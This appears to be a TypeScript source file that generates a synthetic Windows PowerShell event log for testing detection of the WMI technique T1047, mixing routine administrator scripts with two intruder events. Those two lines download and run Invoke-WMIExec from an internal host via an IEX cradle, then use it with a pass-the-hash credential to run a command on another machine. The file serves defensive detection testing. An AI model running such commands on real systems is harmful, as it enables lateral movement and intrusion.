import { hosts } from './corporation.ts';
import { interleave, type SampleDataset } from './dataset.ts';
import { pick, seeded } from './random.ts';
import { scriptBlockEvent } from './windows-event.ts';

const scripts = [
  'Get-Service | Where-Object { $_.Status -eq "Stopped" } | Sort-Object Name',
  'function Get-DiskReport { param([string]$Name) Get-CimInstance Win32_LogicalDisk | Where-Object DeviceID -eq $Name }',
  'Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv -Path users.csv',
  'prompt',
  '$ErrorActionPreference = "Stop"\nGet-ChildItem -Path C:\\Reports -Filter *.csv | ForEach-Object { Remove-Item $_.FullName }',
  'Invoke-WebRequest -Uri "https://intranet.corp.example/status" -UseBasicParsing',
];
const attack = [
  "IEX (New-Object Net.WebClient).DownloadString('http://10.20.0.66/Invoke-WMIExec.ps1')",
  'Invoke-WMIExec -Target 10.20.0.14 -Domain CORP -Username svc_backup -Hash 0123456789ABCDEF0123456789ABCDEF -Command "cmd.exe /c whoami"',
];

export const invokeWmiexec: SampleDataset = {
  folder: 'T1047/invoke_wmiexec',
  file: 'powershell-operational.log',
  technique: 'T1047',
  id: '6b1d1c52-6f0e-4a55-9d0c-2b8a54b1b001',
  description: 'Script blocks of administrators, and an intruder who loads and runs Invoke-WMIExec.',
  source: 'XmlWinEventLog:Microsoft-Windows-PowerShell/Operational',
  sourcetype: 'xmlwineventlog',
  events: () => {
    const random = seeded(1047);
    return interleave(
      260,
      [141, 142],
      (time) => scriptBlockEvent(random, { time, script: pick(random, scripts), computer: pick(random, hosts) }),
      (n, time) => scriptBlockEvent(random, { time, script: attack[n]!, computer: 'ws-022.corp.example' }),
    );
  },
};
